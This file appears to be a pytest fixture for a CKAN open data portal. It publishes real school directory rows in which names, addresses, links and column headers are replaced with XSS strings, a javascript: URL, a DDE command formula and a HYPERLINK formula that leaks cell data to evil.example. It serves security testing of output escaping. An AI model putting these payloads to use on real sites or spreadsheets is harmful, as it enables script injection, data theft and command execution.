"""A portal where publishers put hostile text in every field they control (issue 12, probes 3 and 6).

Built once per test module through CKAN's actions, as an organization editor uploads files
(`resource_create` with a file → ingestion hooks):

- the ministry's directory for a few real Val-de-Marne schools (rows cut at test time from the
  real annuaire export of data/sample), published by an **editor of the ministry's
  organization** (`menj`, the trusted identity source), with names, addresses, commune names
  and websites replaced by XSS or spreadsheet-formula payloads;
- a collectivité's file keyed by the same UAIs (editor of another organization): text columns
  carrying payloads, a numeric column whose header is a payload (it becomes a territory series
  label, a map legend, a resource map view column) and negative numbers, and a map view
  (`ecarto_carte_uai`) of that resource.

The payload values are written here (they cannot come from real data); every UAI, commune and
position is real.
"""
from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from werkzeug.datastructures import FileStorage

import ckan.model as model
import ckan.tests.helpers as helpers

ROOT = Path(__file__).resolve().parents[2]
ANNUAIRE_94 = ROOT / "data" / "sample" / "annuaire-education" / "fr-en-annuaire-education_094-ecoles-publiques_2026-05-27.csv"

XSS = {
    "img": "<img src=x onerror=alert(1)>",
    "attr": '"><script>alert(1)</script>',
    "script": "</script><script>alert(1)</script>",
    "svg": "<svg onload=alert(1)>",
    "quote": "'-alert(1)-'",
}
JAVASCRIPT_URL = "javascript:alert(1)"
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"clic")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
}
# The collectivité's numeric column: its header is a payload, its values real-looking numbers
# with negative ones (a formula guard must leave them numbers).
NUMERIC_HEADER = "@SUM(1) <img src=x onerror=alert(1)>"
NUMBERS = [-3.5, 12.25, -2.0, -7.0, 0.5, -11.75]   # mean -1.92


def annuaire_rows(n: int) -> tuple[list[str], list[dict[str, str]]]:
    """The header and the first `n` located rows of the real Val-de-Marne annuaire."""
    text = ANNUAIRE_94.read_text(encoding="utf-8-sig")
    reader = csv.DictReader(io.StringIO(text), delimiter=";")
    rows = [r for r in reader if r["latitude"] and r["longitude"]][:n]
    return list(reader.fieldnames or []), rows


def to_csv(header: list[str], rows: list[dict[str, Any]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header, delimiter=";", lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


@dataclass
class PayloadPortal:
    sysadmin: dict[str, Any]
    menj_editor: dict[str, Any]
    editor: dict[str, Any]
    uais: list[str] = field(default_factory=list)
    names: dict[str, str] = field(default_factory=dict)        # uai -> published (hostile) name
    datasets: dict[str, dict[str, Any]] = field(default_factory=dict)
    view_id: str = ""
    departement: str = "94"

    def resource(self, dataset: str) -> dict[str, Any]:
        return self.datasets[dataset]["resources"][0]


def _publish(user: dict[str, Any], org: dict[str, Any], name: str, title: str, axe: str, payload: bytes,
             filename: str) -> dict[str, Any]:
    pkg = helpers.call_action("package_create", {"user": user["name"]}, name=name, title=title,
                              owner_org=org["id"], axe=axe, millesime="2026", license_id="etalab-2.0")
    helpers.call_action("resource_create", {"user": user["name"]}, package_id=pkg["id"], name=title, format="CSV",
                        upload=FileStorage(stream=io.BytesIO(payload), filename=filename))
    return helpers.call_action("package_show", {"user": user["name"]}, id=pkg["id"])


def build() -> PayloadPortal:
    from ckan.tests import factories
    sysadmin = factories.Sysadmin()

    def ctx() -> dict[str, Any]:
        # a new context per call: CKAN's group_create keeps the group it made in the context it is
        # given, and a second organization_create with the same dict would rename the first one
        return {"user": sysadmin["name"]}

    menj = helpers.call_action("organization_create", ctx(), name="menj", title="Ministère de l'Éducation nationale")
    coll = helpers.call_action("organization_create", ctx(), name="val-de-marne", title="Département du Val-de-Marne")
    assert menj["id"] != coll["id"]
    menj_editor, editor = factories.User(), factories.User()
    helpers.call_action("organization_member_create", ctx(), id=menj["id"], username=menj_editor["name"], role="editor")
    helpers.call_action("organization_member_create", ctx(), id=coll["id"], username=editor["name"], role="editor")
    portal = PayloadPortal(sysadmin=sysadmin, menj_editor=menj_editor, editor=editor)

    header, rows = annuaire_rows(6)
    hostile_names = [XSS["img"], XSS["attr"], XSS["script"], FORMULAS["hyperlink"], FORMULAS["dde"], FORMULAS["at"]]
    for row, name in zip(rows, hostile_names):
        row["Nom_etablissement"] = name
    rows[0]["Web"] = JAVASCRIPT_URL
    rows[0]["Adresse_1"] = XSS["svg"]
    rows[1]["Adresse_1"] = XSS["quote"]
    rows[3]["Adresse_1"] = FORMULAS["minus"]
    rows[4]["Web"] = FORMULAS["tab"]
    portal.uais = [r["Identifiant_de_l_etablissement"] for r in rows]
    portal.names = {r["Identifiant_de_l_etablissement"]: r["Nom_etablissement"] for r in rows}
    portal.datasets["annuaire-94"] = _publish(
        menj_editor, menj, "annuaire-94", "Annuaire de l'éducation — Val-de-Marne (extrait)", "etablissements",
        to_csv(header, rows), "annuaire-94.csv")

    texts = list(XSS.values()) + list(FORMULAS.values())
    data_header = ["UAI", "Commentaire " + XSS["img"], FORMULAS["hyperlink"], "Catégorie", NUMERIC_HEADER]
    data_rows = [{"UAI": uai, data_header[1]: texts[i % len(texts)], data_header[2]: texts[(i + 6) % len(texts)],
                  "Catégorie": [XSS["img"], FORMULAS["hyperlink"], XSS["attr"]][i % 3],
                  NUMERIC_HEADER: str(NUMBERS[i])}
                 for i, uai in enumerate(portal.uais)]
    portal.datasets["equipement-94"] = _publish(
        editor, coll, "equipement-94", "Équipement des écoles " + XSS["img"], "equipement",
        to_csv(data_header, data_rows), "equipement-94.csv")

    view = helpers.call_action("resource_view_create", {"user": editor["name"]},
                               resource_id=portal.resource("equipement-94")["id"], view_type="ecarto_carte_uai",
                               title="Carte des établissements", colonne="")
    portal.view_id = view["id"]
    model.Session.remove()
    return portal


@pytest.fixture(scope="module")
def payload_portal(module_portal_db) -> PayloadPortal:
    return build()
